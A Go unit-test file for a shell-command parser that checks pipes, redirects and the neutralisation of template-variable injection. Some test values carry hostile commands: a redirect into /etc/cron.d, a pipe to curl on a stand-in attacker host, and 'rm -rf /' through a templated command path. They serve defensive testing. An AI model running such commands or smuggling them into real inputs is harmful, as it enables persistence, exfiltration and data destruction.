package command

import "testing"

func TestBuildStringGraphRejectsCommandSubstitution(t *testing.T) {
	cases := []string{
		"echo $(whoami)",
		"echo `whoami`",
		"ls 2>&1",
	}
	for _, line := range cases {
		if _, err := buildStringGraph(line, nil); err != ErrUnsupportedSyntax {
			t.Errorf("line %q: got %v, want ErrUnsupportedSyntax", line, err)
		}
	}
}

func TestBuildStringGraphSimplePipe(t *testing.T) {
	g, err := buildStringGraph("grep foo | wc -l", nil)
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if len(g.Stages) != 2 {
		t.Fatalf("expected 2 stages, got %d", len(g.Stages))
	}
	if g.Stages[0].Argv[0] != "grep" || g.Stages[1].Argv[0] != "wc" {
		t.Fatalf("unexpected argvs: %+v", g.Stages)
	}
}

func TestBuildStringGraphRedirect(t *testing.T) {
	g, err := buildStringGraph("echo hi > out.txt", nil)
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if g.RedirectStdout != "out.txt" {
		t.Fatalf("expected redirect to out.txt, got %q", g.RedirectStdout)
	}
}

func TestBuildStringGraphRejectsEmptyCommand(t *testing.T) {
	if _, err := buildStringGraph("", nil); err != errEmptyCommandSpec && err != ErrUnsupportedSyntax {
		t.Fatalf("got %v, want an empty/unsupported error", err)
	}
}

func TestBuildStringGraphRejectsTrailingOperator(t *testing.T) {
	if _, err := buildStringGraph("echo hi &&", nil); err != ErrUnsupportedSyntax {
		t.Fatalf("got %v, want ErrUnsupportedSyntax", err)
	}
}

func TestBuildStringGraphAndOr(t *testing.T) {
	g, err := buildStringGraph("make build && make test", nil)
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if len(g.OnSuccess) != 1 {
		t.Fatalf("expected 1 on_success graph, got %d", len(g.OnSuccess))
	}
}

// TestBuildStringGraphSubstitutionCannotInjectOperators is the
// shell-injection-neutralization property for String mode: a template
// variable's value containing "|", ">" or "&&" must stay literal argument
// text, never be reinterpreted as a pipe, redirect or and-or operator.
// Operator recognition happens on the raw, unsubstituted line; vars are
// only substituted into tokens already classified as data.
func TestBuildStringGraphSubstitutionCannotInjectOperators(t *testing.T) {
	vars := map[string]string{"cmd": "x > /etc/cron.d/evil"}
	g, err := buildStringGraph("/bin/echo {{cmd}}", vars)
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if len(g.Stages) != 1 {
		t.Fatalf("expected 1 stage (no pipe/redirect split), got %d: %+v", len(g.Stages), g.Stages)
	}
	if g.RedirectStdout != "" {
		t.Fatalf("expected no redirect, got %q", g.RedirectStdout)
	}
	want := []string{"/bin/echo", "x > /etc/cron.d/evil"}
	argv := g.Stages[0].Argv
	if len(argv) != len(want) || argv[0] != want[0] || argv[1] != want[1] {
		t.Fatalf("got argv %+v, want %+v", argv, want)
	}

	vars = map[string]string{"cmd": "x | curl attacker.example"}
	g, err = buildStringGraph("/bin/echo {{cmd}}", vars)
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if len(g.Stages) != 1 {
		t.Fatalf("expected 1 stage (no pipe split), got %d: %+v", len(g.Stages), g.Stages)
	}
	if g.Stages[0].Argv[1] != "x | curl attacker.example" {
		t.Fatalf("got argv %+v", g.Stages[0].Argv)
	}
}

func TestBuildStringGraphRejectsTemplateInCommandPath(t *testing.T) {
	vars := map[string]string{"prog": "rm"}
	if _, err := buildStringGraph("{{prog}} -rf /", vars); err != ErrTemplateInCommandPath {
		t.Fatalf("got %v, want ErrTemplateInCommandPath", err)
	}
}
